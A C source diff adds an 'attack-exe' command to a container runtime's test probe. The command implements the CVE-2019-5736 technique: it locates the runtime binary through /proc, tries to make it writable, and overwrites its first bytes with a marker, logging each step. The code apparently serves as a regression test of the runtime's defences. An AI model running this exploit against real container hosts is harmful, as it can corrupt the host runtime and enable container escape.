@@ -10,6 +10,7 @@
 #include <fcntl.h>
 #include <grp.h>
 #include <limits.h>
+#include <linux/mount.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
@@ -19,6 +20,7 @@
 #include <sys/personality.h>
 #include <sys/resource.h>
 #include <sys/stat.h>
+#include <sys/statfs.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -297,13 +299,125 @@ static int cmd_readlink(const char* path) {
   return 0;
 }
 
+// ---- attack-exe: the CVE-2019-5736 attacker ------------------------------
+//
+// probe attack-exe LOG [PID]: finds a process of the container whose
+// /proc/PID/exe is not this probe (the runtime's binary, when the runtime
+// exec'd `#!/proc/self/exe`), or takes PID, opens that exe read-only, waits
+// for the process to exit (not with PID: pid 1 stays), tries to make its
+// mount writable (remount of /sbin/berth-init, mount_setattr on the handle;
+// both need CAP_SYS_ADMIN), then reopens the handle through /proc/self/fd
+// for writing (retrying ETXTBSY for a while) and overwrites its first bytes.
+// Every step is appended to LOG as one line; the last line is "done".
+
+static double now_s(void) {
+  struct timespec ts;
+  clock_gettime(CLOCK_MONOTONIC, &ts);
+  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static int open_exe_of(pid_t pid, const struct stat* own) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  if (fd < 0) fd = open(path, O_PATH | O_CLOEXEC);
+  if (fd < 0) return -1;
+  struct stat st;
+  if (own && fstat(fd, &st) == 0 && st.st_dev == own->st_dev && st.st_ino == own->st_ino) {
+    close(fd);
+    return -1;
+  }
+  return fd;
+}
+
+static int find_target(const struct stat* own, pid_t* target) {
+  DIR* d = opendir("/proc");
+  if (!d) return -1;
+  struct dirent* e;
+  int fd = -1;
+  while (fd < 0 && (e = readdir(d)) != NULL) {
+    char* end;
+    long pid = strtol(e->d_name, &end, 10);
+    if (*end != '\0' || pid <= 0 || pid == getpid()) continue;
+    fd = open_exe_of((pid_t)pid, own);
+    if (fd >= 0) *target = (pid_t)pid;
+  }
+  closedir(d);
+  return fd;
+}
+
+static int cmd_attack_exe(const char* log, const char* pid_arg) {
+  FILE* out = fopen(log, "ae");
+  if (!out) return fail(log);
+  setvbuf(out, NULL, _IOLBF, 0);
+  struct stat own;
+  if (stat("/proc/self/exe", &own) != 0) return fail("/proc/self/exe");
+  pid_t target = pid_arg ? (pid_t)atoi(pid_arg) : 0;
+  int fd = -1;
+  double deadline = now_s() + 120;
+  while (fd < 0 && now_s() < deadline) {
+    if (pid_arg) {
+      fd = open_exe_of(target, NULL);
+      if (fd < 0) usleep(20000);
+    } else {
+      fd = find_target(&own, &target);
+      if (fd < 0) sched_yield();
+    }
+  }
+  if (fd < 0) {
+    fprintf(out, "not found\ndone\n");
+    return 1;
+  }
+  struct stat st;
+  struct statfs sfs;
+  char link[PATH_MAX] = "?";
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/exe", (int)target);
+  ssize_t n = readlink(path, link, sizeof link - 1);
+  if (n >= 0) link[n] = '\0';
+  fstat(fd, &st);
+  fstatfs(fd, &sfs);
+  fprintf(out, "found pid=%d dev=%lu ino=%lu fstype=0x%lx exe=%s\n", (int)target,
+          (unsigned long)st.st_dev, (unsigned long)st.st_ino, (unsigned long)sfs.f_type, link);
+  if (!pid_arg) {
+    snprintf(path, sizeof path, "/proc/%d", (int)target);
+    deadline = now_s() + 120;
+    while (access(path, F_OK) == 0 && now_s() < deadline) usleep(5000);
+    fprintf(out, "target %s\n", access(path, F_OK) == 0 ? "still running" : "exited");
+  }
+  if (access("/sbin/berth-init", F_OK) == 0) {
+    int r = mount(NULL, "/sbin/berth-init", NULL, MS_REMOUNT | MS_BIND, NULL);
+    fprintf(out, "remount /sbin/berth-init rw: %s\n", r == 0 ? "OK" : err_name(errno));
+  }
+  struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
+  long r = syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr);
+  fprintf(out, "mount_setattr rw: %s\n", r == 0 ? "OK" : err_name(errno));
+  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+  int wfd = -1;
+  deadline = now_s() + (pid_arg ? 2 : 20);
+  for (;;) {
+    wfd = open(path, O_WRONLY | O_CLOEXEC);
+    if (wfd >= 0 || errno != ETXTBSY || now_s() >= deadline) break;
+    usleep(20000);
+  }
+  fprintf(out, "open-write: %s\n", wfd >= 0 ? "OK" : err_name(errno));
+  if (wfd >= 0) {
+    static const char kPwned[] = "PWNED-BY-CONTAINER";
+    ssize_t w = pwrite(wfd, kPwned, sizeof kPwned - 1, 0);
+    fprintf(out, "write: %s\n", w == (ssize_t)(sizeof kPwned - 1) ? "OK" : err_name(errno));
+  }
+  fprintf(out, "done\n");
+  return 0;
+}
+
 static int usage(void) {
   fprintf(
       stderr,
       "usage: probe pid|hostname|status|syscall-denied|mountinfo|id|exe|fds|cwd|umask|personality\n"
       "       probe cat FILE|write FILE|alloc MB|forkbomb N|spin SECONDS|rlimit NAME\n"
       "       probe sleep SECONDS|exit N|ns NAME|mode FILE|readlink PATH\n"
-      "       probe syscall-errno NR...\n");
+      "       probe syscall-errno NR...\n"
+      "       probe attack-exe LOG [PID]\n");
   return 2;
 }
 
@@ -336,5 +450,6 @@ int main(int argc, char** argv) {
   if (strcmp(cmd, "mode") == 0) return cmd_mode(arg);
   if (strcmp(cmd, "readlink") == 0) return cmd_readlink(arg);
   if (strcmp(cmd, "syscall-errno") == 0) return cmd_syscall_errno(argc - 2, argv + 2);
+  if (strcmp(cmd, "attack-exe") == 0) return cmd_attack_exe(arg, argc > 3 ? argv[3] : NULL);
   return usage();
 }
